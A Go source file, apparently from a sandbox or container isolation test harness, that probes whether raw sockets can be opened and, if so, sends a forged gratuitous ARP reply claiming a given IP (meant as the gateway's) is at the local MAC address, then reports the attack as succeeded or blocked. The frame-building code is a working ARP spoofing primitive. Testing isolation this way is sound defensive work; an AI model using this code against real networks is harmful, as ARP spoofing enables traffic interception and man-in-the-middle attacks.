package main

import (
	"encoding/binary"
	"fmt"
	"net"
	"strings"
	"syscall"
	"unsafe"
)

// raw_socket: opens raw sockets (NET_RAW); if one opens, sends a gratuitous ARP reply claiming the
// gateway's IP.
func rawSocket(a args) {
	var outcomes []string
	packetSocket := -1
	attempts := []struct {
		label               string
		family, kind, proto int
	}{
		{"AF_PACKET/SOCK_RAW", syscall.AF_PACKET, syscall.SOCK_RAW, int(htons(syscall.ETH_P_ARP))},
		{"AF_INET/SOCK_RAW/ICMP", syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_ICMP},
	}
	for _, attempt := range attempts {
		fd, err := syscall.Socket(attempt.family, attempt.kind|syscall.SOCK_CLOEXEC, attempt.proto)
		if err != nil {
			outcomes = append(outcomes, fmt.Sprintf("%s: %s", attempt.label, errorName(err)))
			continue
		}
		outcomes = append(outcomes, attempt.label+": opened")
		if attempt.family == syscall.AF_PACKET {
			packetSocket = fd
		} else {
			syscall.Close(fd)
		}
	}
	if spoof := a.textOr("spoof_ip", ""); packetSocket >= 0 && spoof != "" {
		outcomes = append(outcomes, spoofArp(packetSocket, a.textOr("interface", "eth0"), spoof))
	}
	attack := "blocked"
	for _, outcome := range outcomes {
		if strings.Contains(outcome, "opened") {
			attack = "succeeded"
		}
	}
	report(attack, strings.Join(outcomes, "; "), nil)
}

// spoofArp binds the packet socket to the interface and sends one ARP reply "spoof is at my MAC".
func spoofArp(fd int, iface, spoof string) string {
	index, code := interfaceIndex(fd, iface)
	if code != 0 {
		return "ARP send: " + errname(code)
	}
	if err := syscall.Bind(fd, &syscall.SockaddrLinklayer{Ifindex: index}); err != nil {
		return "ARP send: " + errorName(err)
	}
	name, err := syscall.Getsockname(fd)
	if err != nil {
		return "ARP send: " + errorName(err)
	}
	link, _ := name.(*syscall.SockaddrLinklayer)
	if link == nil || link.Halen != 6 {
		return "ARP send: the interface has no Ethernet address"
	}
	mac := link.Addr[:6]
	ip := net.ParseIP(spoof).To4()
	if ip == nil {
		return "ARP send: " + spoof + " is not an IPv4 address"
	}
	frame := append([]byte{}, broadcast...)
	frame = append(frame, mac...)
	frame = binary.BigEndian.AppendUint16(frame, syscall.ETH_P_ARP)
	frame = append(frame, 0, 1, 0x08, 0x00, 6, 4, 0, 2) // Ethernet, IPv4, 6-byte MAC, 4-byte IP, reply
	frame = append(frame, mac...)
	frame = append(frame, ip...)
	frame = append(frame, broadcast...)
	frame = append(frame, ip...)
	if _, err := syscall.Write(fd, frame); err != nil {
		return "ARP send: " + errorName(err)
	}
	return fmt.Sprintf("sent ARP reply claiming %s is at %s", spoof, net.HardwareAddr(mac))
}

var broadcast = []byte{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}

// interfaceIndex is SIOCGIFINDEX, the lookup Python's bind((iface, 0)) makes.
func interfaceIndex(fd int, name string) (int, syscall.Errno) {
	var request struct {
		name  [syscall.IFNAMSIZ]byte
		index int32
		_     [20]byte
	}
	copy(request.name[:syscall.IFNAMSIZ-1], name)
	_, _, code := syscall.Syscall(syscall.SYS_IOCTL, uintptr(fd), syscall.SIOCGIFINDEX, uintptr(unsafe.Pointer(&request)))
	return int(request.index), code
}

// htons puts a 16-bit value in network byte order in memory, read back in host order.
func htons(value uint16) uint16 {
	var out [2]byte
	binary.BigEndian.PutUint16(out[:], value)
	return binary.NativeEndian.Uint16(out[:])
}
